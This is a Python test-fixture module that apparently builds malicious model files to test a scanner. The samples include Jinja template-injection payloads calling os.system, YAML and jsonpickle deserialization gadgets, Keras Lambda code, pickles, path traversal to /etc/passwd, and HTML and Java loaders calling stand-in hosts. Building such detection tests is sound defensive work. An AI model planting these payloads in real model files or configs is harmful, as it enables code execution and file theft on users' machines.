"""Files that are no pickles: configurations, templates, source, graphs, damaged tensors."""

# Tables: one technique a line, whatever its length.
# ruff: noqa: E501, UP031

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Iterator
from functools import cache
from typing import Any

from tests.builders import wire, zips
from tests.builders.gadgets import PY, SH, Technique, call, pickled

REPO = "https://example.invalid/x"


def techniques() -> Iterator[Technique]:
    """All of them."""
    for family, name, data, file, loader in (
        *_templates(), *_python(), *_yaml(), *_configs(), *_keras(), *_graphs(), *_safetensors(),
        *_programs(), *_gguf(), *_carried(), *_exports(),
    ):  # fmt: skip
        yield Technique(
            name=name, family=family, data=data, file=file, loader=loader, runs=bool(loader)
        )


Case = tuple[str, str, bytes, str, str]


def _templates() -> Iterator[Case]:
    run = f".os.system('{SH}')"
    for name, source in (
        ("cycler globals", "{{ cycler.__init__.__globals__" + run + " }}"),
        ("lipsum globals", "{{ lipsum.__globals__" + run + " }}"),
        ("namespace", "{{ namespace.__init__.__globals__" + run + " }}"),
        ("joiner", "{{ joiner.__init__.__globals__" + run + " }}"),
        ("self", "{{ self.__init__.__globals__.__builtins__.__import__('os').system('%s') }}" % SH),
        ("subscripts", "{{ lipsum['__globals__']['os']['system']('%s') }}" % SH),
        ("attr filter", "{{ (lipsum|attr('__globals__'))['os'].system('%s') }}" % SH),
        ("joined name", "{{ (lipsum|attr('__glo' ~ 'bals__'))['os'].system('%s') }}" % SH),
        ("name by set", "{% set x = '__glob' + 'als__' %}{{ (lipsum|attr(x))['os'].system('" + SH
         + "') }}"),
        ("escaped name", "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f']['os'].system('%s') }}" % SH),
        ("format filter", "{{ (lipsum|attr('%sglobals%s'|format('__','__')))['os'].system('" + SH
         + "') }}"),
        ("in a loop", "{% for m in [1] %}{{ cycler.__init__.__globals__" + run + " }}{% endfor %}"),
        ("in a macro", "{% macro f() %}{{ lipsum.__globals__" + run + " }}{% endmacro %}{{ f() }}"),
        ("in a condition", "{% if lipsum.__globals__" + run + " %}{% endif %}"),
        ("map attribute", "{{ [lipsum]|map(attribute='__globals__')|map(attribute='os')|list }}"),
        ("class walk", "{{ ''.__class__.__mro__[1].__subclasses__()|length }}"),
    ):  # fmt: skip
        loader = "" if name in ("map attribute", "class walk") else "jinja"
        yield "template", f"{name}, in a file", source.encode(), "chat_template.jinja", loader
        data = json.dumps({"chat_template": source}).encode()
        yield "template", f"{name}, in a configuration", data, "tokenizer_config.json", loader
    named = {
        "chat_template": [{"name": "default", "template": "{{ lipsum.__globals__" + run + "}}"}]
    }
    yield "template", "named", json.dumps(named).encode(), "tokenizer_config.json", "jinja"
    processor = {"chat_template": "{{ lipsum.__globals__" + run + "}}"}
    yield "template", "processor", json.dumps(processor).encode(), "processor_config.json", "jinja"


def _python() -> Iterator[Case]:
    for name, source in (
        ("os.system", f"import os\nos.system('{SH}')\n"),
        ("from import", f"from os import system\nsystem('{SH}')\n"),
        ("alias", f"import subprocess as s\ns.run(['sh', '-c', '{SH}'])\n"),
        ("exec", f'exec("{PY}")\n'),
        ("eval", f'x = eval("{PY}")\n'),
        ("__import__", f"__import__('os').system('{SH}')\n"),
        ("getattr", f"import os\ngetattr(os, 'sys' + 'tem')('{SH}')\n"),
        ("importlib", f"import importlib\nimportlib.import_module('os').system('{SH}')\n"),
        ("base64", f"import base64\nexec(base64.b64decode({__import__('base64').b64encode(PY.encode())!r}))\n"),
        ("in a class", f"class A:\n    import os\n    os.system('{SH}')\n"),
        ("in a default", f"import os\ndef f(x=os.system('{SH}')): pass\n"),
        ("in a decorator", f"import os\n@(lambda f: os.system('{SH}'))\ndef f(): pass\n"),
        ("called function", f"import os\ndef f():\n    os.system('{SH}')\nf()\n"),
        ("called lambda", f"import os\n(lambda: os.system('{SH}'))()\n"),
        ("in a comprehension", f"import os\n[os.system('{SH}') for _ in [1]]\n"),
        ("method", f"import os\nclass A:\n    def __init__(self): os.system('{SH}')\nA()\n"),
        ("metaclass", f"import os\nclass M(type):\n    def __new__(*a): os.system('{SH}')\nclass A(metaclass=M): pass\n"),
        ("init_subclass", f"import os\nclass B:\n    def __init_subclass__(c): os.system('{SH}')\nclass A(B): pass\n"),
        ("open", f"{PY}\n"),
        ("pathlib", "from pathlib import Path\nPath('fired').write_text('x')\n"),
        ("pickle", "import pickle\npickle.loads(b'''cposix\\nsystem\\n(S': >fired'\\ntR.''')\n"),
        ("ctypes", f"import ctypes\nctypes.CDLL(None).system(b'{SH}')\n"),
        ("under try", f"try:\n    import os\n    os.system('{SH}')\nexcept Exception: pass\n"),
        ("builtins dict", f"__builtins__['exec' if 1 else ''](\"{PY}\")\n" if False else
         f"import builtins\nbuiltins.exec(\"{PY}\")\n"),
        ("assigned name", f"import os\nf = os.system\nf('{SH}')\n"),
    ):  # fmt: skip
        yield "python", name, source.encode(), "modeling.py", "python"
    yield "python", "without suffix", f"import os\nos.system('{SH}')\n".encode(), "hook", "python"
    yield (
        "python",
        "threading",
        b"import socket\nsocket.create_connection(('127.0.0.1', 9))\n",
        "a.py",
        "",
    )
    yield "python", "syntax error", b"import os\nos.system('x'\n", "modeling.py", ""


def _yaml() -> Iterator[Case]:
    for name, text, loader in (
        ("apply", f"a: !!python/object/apply:os.system ['{SH}']\n", "yaml"),
        ("apply in a list", f"- !!python/object/apply:subprocess.call [['sh', '-c', '{SH}']]\n",
         "yaml"),
        ("new", f"a: !!python/object/new:tuple [[!!python/object/apply:os.system ['{SH}']]]\n",
         "yaml"),
        ("tag directive", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system "
         f"['{SH}']\n", "yaml"),
        ("verbatim tag", f"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['{SH}']\n",
         "yaml"),
        ("name", "a: !!python/name:os.system\n", ""),
        ("module", "a: !!python/module:os\n", ""),
        ("hydra target", "model:\n  _target_: os.system\n  command: x\n", ""),
        ("flow style", f"{{a: !!python/object/apply:os.system ['{SH}']}}\n", "yaml"),
        ("second document", f"a: 1\n---\nb: !!python/object/apply:os.system ['{SH}']\n", ""),
        ("escaped tag", f"a: !<tag:yaml.org,2002:python%2Fobject%2Fapply%3Aos.system> ['{SH}']\n",
         "yaml"),
        ("Ruby's object", "--- !ruby/object:Gem::Installer\ni: x\n", ""),
        ("Ruby's object, of YAML's own", "a: !!ruby/object:Gem::SpecFetcher\n  i: 0\n", ""),
        ("Java's classes", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
         f"[[!!java.net.URL ['{REPO}']]]]\n", ""),
        ("JavaScript's function", f"a: !!js/function 'function f() {{ return \"{SH}\" }}'\n", ""),
        ("PHP's object", "a: !php/object 'O:1:\"X\":0:{}'\n", ""),
        ("another file", "a: !include ../../etc/passwd\n", ""),
        ("call of HyperPyYAML", f"a: !apply:os.system ['{SH}']\n", ""),
        ("object of HyperPyYAML", f"a: !new:subprocess.Popen ['{SH}']\n", ""),
    ):  # fmt: skip
        yield "yaml", name, text.encode(), "config.yaml", loader
        if name == "apply":
            yield "yaml", "another name", text.encode(), "README", loader


def _configs() -> Iterator[Case]:
    def case(name: str, file: str, **values: Any) -> Case:
        return "configuration", name, json.dumps(values, indent=1).encode(), file, ""

    yield case("auto_map", "config.json", auto_map={"AutoModel": "modeling.Model"})
    yield case("auto_map of another repository", "config.json",
               auto_map={"AutoModel": "other/repo--modeling.Model"})  # fmt: skip
    yield case("auto_map of a tokenizer", "tokenizer_config.json",
               auto_map={"AutoTokenizer": ["tok.T", None]})  # fmt: skip
    yield case("auto_map nested", "config.json", text_config={"auto_map": {"AutoModel": "a.B"}})
    yield case("custom_generate", "generation_config.json", custom_generate="other/repo")
    yield case("custom_pipelines", "config.json", custom_pipelines={"x": {"impl": "a.B"}})
    yield case("attention kernel", "config.json", attn_implementation="org/kernel")
    yield case("attention kernel, private key", "config.json", _attn_implementation="org/kernel")
    yield case("adapter's base", "adapter_config.json", base_model_name_or_path="../../../other")
    yield case("tokenizer file outside", "tokenizer_config.json", tokenizer_file="/etc/passwd")
    yield case("vocabulary outside", "tokenizer_config.json", vocab_file="../../x")
    yield case("hydra target", "config.json", _target_="os.system")
    yield case("jsonpickle", "model.json", **{"py/reduce": [{"py/type": "os.system"}, ["x"]]})
    yield case("jsonpickle object", "model.json", **{"py/object": "subprocess.Popen"})
    index = {"metadata": {}, "weight_map": {"a": "../../other.safetensors"}}
    yield case("index outside", "model.safetensors.index.json", **index)
    yield case("index absolute", "pytorch_model.bin.index.json",
               metadata={}, weight_map={"a": "/etc/passwd"})  # fmt: skip
    yield case("index at a URL", "model.safetensors.index.json",
               metadata={}, weight_map={"a": REPO})  # fmt: skip
    twice = b'{"model_type": "bert", "model_type": "x"}'
    yield "configuration", "key twice", twice, "config.json", ""
    yield "configuration", "too deep", b"[" * 100_000 + b"]" * 100_000, "config.json", ""


@cache
def _marshalled() -> str:
    import base64
    import marshal

    return base64.b64encode(marshal.dumps(compile(PY, "", "exec"))).decode()


def _lambda(name: str = "Lambda") -> dict[str, Any]:
    function = {"class_name": "__lambda__", "config": {"code": _marshalled()}}
    return {"class_name": name, "module": "keras.layers", "config": {"function": function},
            "registered_name": None}  # fmt: skip


def _model(*layers: dict[str, Any], kind: str = "Sequential") -> dict[str, Any]:
    return {"class_name": kind, "module": "keras", "config": {"layers": list(layers)}}


def _keras() -> Iterator[Case]:
    family = "keras"
    nested = _model(_model(_lambda(), kind="Functional"))
    wrapped = {"class_name": "TimeDistributed", "config": {"layer": _lambda()}}
    module = {"class_name": "function", "module": "os", "config": "system",
              "registered_name": "system"}  # fmt: skip
    for name, model in (
        ("Lambda", _model(_lambda())), ("Lambda in a model", nested),
        ("Lambda in a wrapper", _model(wrapped)),
        ("function of a module", _model({"class_name": "Dense", "config": {"activation": module}})),
        ("class of another package", _model({"class_name": "Popen", "module": "subprocess",
                                             "config": {}})),
    ):  # fmt: skip
        text = json.dumps(model)
        members = {"config.json": text.encode(), "metadata.json": b"{}"}
        yield family, f"{name}, .keras", zips.plain(members), "model.keras", ""
        yield family, f"{name}, .h5", _hdf5(model_config=text), "model.h5", ""
        yield family, f"{name}, JSON", text.encode(), "model.json", ""
    for name, text in (
        ("eval", '{"class_name": "eval", "module": "builtins", "config": "1"}'),
        ("loss of its user", '{"class_name": "Model", "compile_config": '
         '{"optimizer": "adam", "loss": "run"}}'),
        ("metric of its user, older", '{"class_name": "Model", "training_config": '
         '{"optimizer_config": {}, "metrics": [["run"]]}}'),
        ("registered without a module",
         '{"class_name": "Run", "module": null, "registered_name": "Run", "config": {}}'),
        ("eval without a configuration", '{"class_name": "eval", "module": "builtins"}'),
        ("eval, its key in escapes",
         '{"clas\\u0073_name": "eval", "module": "builtins", "config": {}}'),
        ("eval in one name", '{"class_name": "builtins:eval", "config": {}}'),
        ("registered os.system", '{"class_name": "X", "registered_name": "os.system"}'),
        ("Keras' own download", '{"class_name": "get_file", "module": "keras.utils", "config": {}}'),
        ("TensorFlow's files", '{"class_name": "GFile", "module": "tensorflow.io.gfile", "config": {}}'),
        ("SavedModel elsewhere", '{"class_name": "TFSMLayer", "module": "keras.layers", "config": {}}'),
        ("torch module", '{"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": {}}'),
    ):  # fmt: skip
        yield family, f"{name}, JSON", text.encode(), "config.json", ""
    yield family, "external link", _hdf5(link=True), "model.h5", ""
    yield family, "external storage", _hdf5(storage=True), "model.h5", ""
    members = {"config.json": json.dumps(_model()).encode(), "assets/x.pkl": b"cposix\nsystem\n."}
    yield family, "a pickle among assets", zips.plain(members), "model.keras", ""


def _hdf5(*, model_config: str = "", link: bool = False, storage: bool = False) -> bytes:
    import h5py

    held = io.BytesIO()
    with h5py.File(held, "w") as file:
        if model_config:
            file.attrs["model_config"] = model_config
        if link:
            file["weights"] = h5py.ExternalLink("/etc/passwd", "/x")
        if storage:
            file.create_dataset("x", (4,), "u1", external=[("/etc/passwd", 0, 4)])
    return held.getvalue()


def _node(op: str, name: str = "n") -> bytes:
    return wire.chunk(1, name) + wire.chunk(2, op)


def _graphs() -> Iterator[Case]:
    for op in ("PyFunc", "PyFuncStateless", "EagerPyFunc", "ReadFile", "WriteFile",
               "MatchingFiles", "ImmutableConst"):  # fmt: skip
        graph = wire.chunk(1, _node(op))
        saved = wire.number(1, 1) + wire.chunk(2, wire.chunk(1, wire.chunk(4, "serve"))
                                               + wire.chunk(2, graph))  # fmt: skip
        yield "saved-model", op, saved, "saved_model.pb", ""
    for name, path in (("climbs", "../../etc/passwd"), ("absolute", "/etc/passwd")):
        entry = wire.chunk(1, "location") + wire.chunk(2, path)
        tensor = wire.chunk(8, "w") + wire.chunk(13, entry) + wire.number(14, 1)
        graph = wire.chunk(1, wire.chunk(4, "Add")) + wire.chunk(2, "g") + wire.chunk(5, tensor)
        model = wire.number(1, 8) + wire.chunk(7, graph) + wire.chunk(8, wire.number(2, 17))
        yield "onnx", f"external data {name}", model, "model.onnx", ""
    for name, domain in (
        ("operator of another domain", "com.example"),
        ("operator that ONNX has not", ""),
        ("operator that ONNX has not, spelt out", "ai.onnx"),
        ("operator that ONNX's machine learning has not", "ai.onnx.ml"),
        ("operator that the runtime has not", "com.microsoft"),
    ):
        node = wire.chunk(4, "Evil") + wire.chunk(7, domain) * bool(domain)
        graph = wire.chunk(1, node) + wire.chunk(2, "g")
        model = wire.number(1, 8) + wire.chunk(7, graph) + wire.chunk(8, wire.number(2, 17))
        yield "onnx", name, model, "model.onnx", ""


def _safe(header: Any, data: bytes = b"") -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + data


def _safetensors() -> Iterator[Case]:
    def entry(start: int, end: int, **changed: Any) -> dict[str, Any]:
        return {"dtype": "U8", "shape": [end - start], "data_offsets": [start, end]} | changed

    family, file = "safetensors", "model.safetensors"
    for name, data in (
        ("overlap", _safe({"a": entry(0, 4), "b": entry(2, 6)}, bytes(6))),
        ("hole", _safe({"a": entry(0, 2), "b": entry(4, 6)}, bytes(6))),
        ("past the end", _safe({"a": entry(0, 9)}, bytes(4))),
        ("bytes after", _safe({"a": entry(0, 4)}, bytes(9))),
        ("shape lies", _safe({"a": entry(0, 4, shape=[9])}, bytes(4))),
        ("unknown type", _safe({"a": entry(0, 4, dtype="PICKLE")}, bytes(4))),
        ("negative offset", _safe({"a": entry(0, 4, data_offsets=[-4, 4])}, bytes(4))),
        ("huge offsets", _safe({"a": entry(0, 4, data_offsets=[0, 2**64])}, bytes(4))),
        ("header past the end", (1 << 40).to_bytes(8, "little") + b"{}"),
        ("no JSON", _safe(b"{not json at all")),
        ("key twice", _safe(b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},'
                            b'"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b"x")),
        ("metadata of numbers", _safe({"__metadata__": {"a": 1}, "a": entry(0, 4)}, bytes(4))),
        ("list for a header", _safe([1, 2])),
        ("empty header", bytes(8)),
    ):  # fmt: skip
        yield family, name, data, file, ""


def _programs() -> Iterator[Case]:
    family = "program"
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    yield family, "ELF", elf, "libx.so", ""
    yield family, "ELF, other name", elf, "model.bin", ""
    pe = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(60)
    yield family, "PE", pe, "x.dll", ""
    yield family, "Mach-O", b"\xcf\xfa\xed\xfe" + bytes(60), "x.dylib", ""
    yield family, "shell script", f"#!/bin/sh\n{SH}\n".encode(), "setup.sh", "shell"
    yield family, "shell script, other name", f"#!/bin/sh\n{SH}\n".encode(), "README.md", "shell"
    bytecode = b"\xa7\r\r\n" + bytes(12)
    import marshal

    yield family, "bytecode", bytecode + marshal.dumps(compile(PY, "", "exec")), "x.pyc", ""
    yield family, "library in a zip", zips.plain({"x.so": elf}), "model.zip", ""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("x/__init__.py", f"import os\nos.system('{SH}')\n")
    yield family, "package in a zip", held.getvalue(), "x.whl", ""


def _gguf() -> Iterator[Case]:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    source = "{{ lipsum.__globals__.os.system('" + SH + "') }}"
    for key in ("tokenizer.chat_template", "tokenizer.chat_template.tool_use"):
        entry = text(key) + struct.pack("<I", 8) + text(source)
        data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry
        yield "gguf", key, data + bytes(-len(data) % 32), "model.gguf", ""
    head = b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60)
    yield "gguf", "huge counts", head, "model.gguf", ""
    entry = text("a") + struct.pack("<I", 8) + struct.pack("<Q", 1 << 62)
    yield (
        "gguf",
        "string past the end",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry,
        "m.gguf",
        "",
    )


def _carried() -> Iterator[Case]:
    """Metadata and packed data that hold a pickle, an archive, a script or a template.

    Nothing loads them where they lie; the program that comes with the model would.
    """
    import base64
    import gzip

    acts = pickled(call("posix:system", SH))
    lines = f"cposix\nsystem\n(S'{SH}'\ntR.".encode()
    archive = zips.plain({"x.pkl": lines})
    values = {
        "a pickle": acts,
        "a pickle of lines": lines,
        "a pickle in hexadecimal": lines.hex().encode(),
        "a pickle of lines in base64": base64.b64encode(lines),
        "a zip": archive,
        "a zip in base64": base64.b64encode(archive),
        "a gzip in base64": base64.b64encode(gzip.compress(acts, mtime=0)),
        "a shell script": f"#!/bin/sh\n{SH}\n".encode(),
        "Python": f"import os\nos.system('{SH}')\n".encode(),
        "HTML with a script": b"<p>x</p><script>fetch('//example.invalid')</script>",
        "a template": ("{{ lipsum.__globals__.os.system('" + SH + "') }}").encode(),
    }
    for name, value in values.items():
        text = value.decode("latin-1")
        header = json.dumps({"__metadata__": {"note": text}}).encode()
        yield "carried", f"{name}, safetensors", _safe(header), "model.safetensors", ""
        entry = b"".join(struct.pack("<Q", len(part)) + part for part in (b"general.note",))
        entry += struct.pack("<IQ", 8, len(value)) + value
        data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry
        yield "carried", f"{name}, GGUF", data, "model.gguf", ""
        extra = wire.chunk(14, wire.chunk(1, "note") + wire.chunk(2, value))
        model = wire.number(1, 8) + wire.chunk(7, wire.chunk(2, "g")) + extra
        yield "carried", f"{name}, ONNX", model, "model.onnx", ""
    for name, settings in (
        ("gzip", {"compression": "gzip"}),
        ("gzip and shuffle", {"compression": "gzip", "shuffle": True}),
        ("chunks", {"chunks": (3,)}),
    ):
        for kind in ("u1", "<f4"):
            yield (
                "carried",
                f"packed with {name}, {kind}",
                _packed(acts, kind, settings),
                "m.h5",
                "",
            )


def _packed(data: bytes, kind: str, settings: dict[str, Any]) -> bytes:
    import h5py
    import numpy as np

    held = io.BytesIO()
    with h5py.File(held, "w") as file:
        padded = np.frombuffer(data + b"." * (-len(data) % 8), kind)
        file.create_dataset("w", data=padded, track_times=False, **settings)
    return held.getvalue()


def _exports() -> Iterator[Case]:
    """Programs of `torch.export`: what loading evaluates, looks up and unpickles."""
    acts = pickled(call("posix:system", SH))
    run = f"__import__('os').system('{SH}')"

    def made(expr: str = "s0", target: str = "torch.ops.aten.relu.default", guard: str = "",
             **members: bytes) -> bytes:  # fmt: skip
        value = {"as_expr": {"expr_str": expr, "hint": None}}
        graph = {"nodes": [{"target": target, "inputs": []}], "sym_int_values": {"n": value}}
        model = {"graph_module": {"graph": graph}, "guards_code": [guard] if guard else []}
        held = {"m/archive_format": b"pt2", "m/models/model.json": json.dumps(model).encode()}
        return zips.plain(held | {f"m/data/{name}": data for name, data in members.items()})

    entry = {"path_name": "weight_0", "use_pickle": True, "tensor_meta": None}
    config = json.dumps({"config": {"w": entry}}).encode()
    weights = {"weights/model_weights_config.json": config, "weights/weight_0": acts}
    for name, data in (
        ("expression that calls", made(run)),
        ("expression, eval", made(f"eval({PY!r})")),
        ("expression in an argument", made(f"Max(1, {run})")),
        ("expression in a symbol's setting", made(f"Symbol('s0', integer={run})")),
        ("guard that calls", made(guard=run)),
        ("target outside the operators", made(target="torch.hub.os.system")),
        ("operators of another library", made(target="torch.ops.elsewhere.f.default")),
        ("weights to unpickle", made(**weights)),
        ("custom object", made(**{"constants/custom_obj_0": acts})),
        ("sample inputs", made(**{"sample_inputs/model.pt": acts})),
        ("compiled library", made(**{"aotinductor/model/x.so": b"\x7fELF\x02\x01\x01" + bytes(57)})),
    ):  # fmt: skip
        yield "export", name, data, "model.pt2", ""
